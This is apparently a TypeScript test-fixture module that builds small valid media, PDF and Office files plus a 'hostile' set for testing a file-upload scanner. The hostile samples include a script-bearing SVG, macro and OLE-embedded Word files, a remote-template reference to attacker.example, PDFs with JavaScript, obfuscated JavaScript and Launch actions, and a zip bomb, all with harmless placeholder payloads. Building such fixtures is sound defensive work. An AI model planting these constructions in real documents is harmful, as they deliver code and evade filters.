import { createHash } from 'node:crypto';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

/** Real small files of every accepted type, and hostile ones, built at test time. */

export const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A width x height RGB PNG (decodable: IHDR, one zlib IDAT, IEND). */
export function png(width = 2, height = 2): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.alloc(height * (1 + width * 3), 0x7f);
  for (let row = 0; row < height; row += 1) rows[row * (1 + width * 3)] = 0;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A baseline JPEG's structure: SOI, JFIF, quantisation and Huffman tables, frame, scan, EOI. */
export function jpeg(): Buffer {
  const segment = (marker: number, body: number[]) => Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    segment(0xdb, [0x00, ...new Array<number>(64).fill(1)]),
    segment(0xc0, [0x08, 0x00, 0x01, 0x00, 0x01, 0x01, 0x01, 0x11, 0x00]),
    segment(0xc4, [0x00, 0x00, 0x01, ...new Array<number>(14).fill(0), 0x00]),
    segment(0xda, [0x01, 0x01, 0x00, 0x00, 0x3f, 0x00]),
    Buffer.from([0x12, 0x34, 0xff, 0x00, 0x56]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** The classic 1x1 GIF89a. */
export function gif(): Buffer {
  return Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
}

function box(type: string, body: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(8 + body.length);
  return Buffer.concat([size, Buffer.from(type, 'latin1'), body]);
}

/** An MP4: ftyp (isom), moov with an mvhd, and an mdat of `payloadBytes`. */
export function mp4(payloadBytes = 1024): Buffer {
  const ftyp = box('ftyp', Buffer.concat([Buffer.from('isom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2avc1mp41')]));
  const moov = box('moov', box('mvhd', Buffer.alloc(100)));
  return Buffer.concat([ftyp, moov, box('mdat', Buffer.alloc(payloadBytes, 0x42))]);
}

/** A one-page PDF; `extra` goes into the catalog dictionary (an /OpenAction, say). */
export function pdf(extra = '', objects: Buffer[] = []): Buffer {
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra}>>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n`, 'latin1'),
    Buffer.from('3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n'),
    ...objects,
    Buffer.from('trailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF\n'),
  ]);
}

/** A compressed object stream holding `content` (where scanners that skip streams miss names). */
export function pdfObjectStream(content: string): Buffer {
  const data = deflateSync(Buffer.from(content));
  return Buffer.concat([
    Buffer.from(`4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
}

export interface ZipPart {
  name: string;
  data: Buffer | string;
  store?: boolean;
}

/** A zip archive, deflated entries with their CRCs, central directory and end record. */
export function zip(parts: ZipPart[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const data = Buffer.isBuffer(part.data) ? part.data : Buffer.from(part.data);
    const compressed = part.store ? data : deflateRawSync(data);
    const name = Buffer.from(part.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(part.store ? 0 : 8, 8);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(part.store ? 0 : 8, 10);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    centrals.push(central, name);
    offset += 30 + name.length + compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const RELS = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
const REL_BASE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function contentTypes(main: string, extra = ''): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="${main}"/>${extra}</Types>`;
}

/** A Word document; options add the parts that make it hostile. */
export function docx(options: { mainContentType?: string; extraParts?: ZipPart[]; documentRels?: string; extraTypes?: string } = {}): Buffer {
  const main = options.mainContentType ?? 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  return zip([
    { name: '[Content_Types].xml', data: contentTypes(`/word/document.xml" ContentType="${main}`, options.extraTypes) },
    { name: '_rels/.rels', data: RELS(`<Relationship Id="rId1" Type="${REL_BASE}/officeDocument" Target="word/document.xml"/>`) },
    {
      name: 'word/document.xml',
      data: '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>',
    },
    {
      name: 'word/_rels/document.xml.rels',
      data: RELS(options.documentRels ?? `<Relationship Id="rId9" Type="${REL_BASE}/hyperlink" Target="https://example.com/" TargetMode="External"/>`),
    },
    ...(options.extraParts ?? []),
  ]);
}

export function pptx(): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: contentTypes('/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml') },
    { name: '_rels/.rels', data: RELS(`<Relationship Id="rId1" Type="${REL_BASE}/officeDocument" Target="ppt/presentation.xml"/>`) },
    { name: 'ppt/presentation.xml', data: '<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>' },
    { name: 'ppt/slides/slide1.xml', data: '<?xml version="1.0"?><p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>' },
  ]);
}

export const hostile = {
  exe: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126), Buffer.from('PE\0\0'), Buffer.alloc(256, 0x90)]),
  svg: () => Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
  ole2: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]),
  docm: () =>
    docx({
      mainContentType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      extraParts: [{ name: 'word/vbaProject.bin', data: Buffer.alloc(512, 1) }],
    }),
  docxWithVbaProject: () => docx({ extraParts: [{ name: 'word/vbaProject.bin', data: Buffer.alloc(512, 1) }] }),
  docxWithEmbedding: () => docx({ extraParts: [{ name: 'word/embeddings/oleObject1.bin', data: Buffer.alloc(512, 2) }] }),
  docxWithExternalTemplate: () =>
    docx({
      extraParts: [
        {
          name: 'word/settings.xml',
          data: '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1"/></w:settings>',
        },
        {
          name: 'word/_rels/settings.xml.rels',
          data: RELS(`<Relationship Id="rId1" TargetMode="External" Type="${REL_BASE}/attachedTemplate" Target="http://attacker.example/template.dotm"/>`),
        },
      ],
    }),
  pdfWithJavaScript: () => pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> '),
  pdfWithHiddenJavaScript: () => pdf('', [pdfObjectStream('5 0 << /S /J#61vaScript /JS (app.alert(1)) >>')]),
  pdfWithLaunch: () => pdf('/OpenAction << /S /Launch /F (calc.exe) >> '),
  pdfWithEmbeddedFile: () => pdf('/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> '),
  truncatedPng: () => png(4, 4).subarray(0, 40),
  /** A Word document whose one part expands from a few KB to 20 MB of zeros. */
  zipBomb: () => docx({ extraParts: [{ name: 'word/media/image1.bin', data: Buffer.alloc(20 * 1024 * 1024) }] }),
};
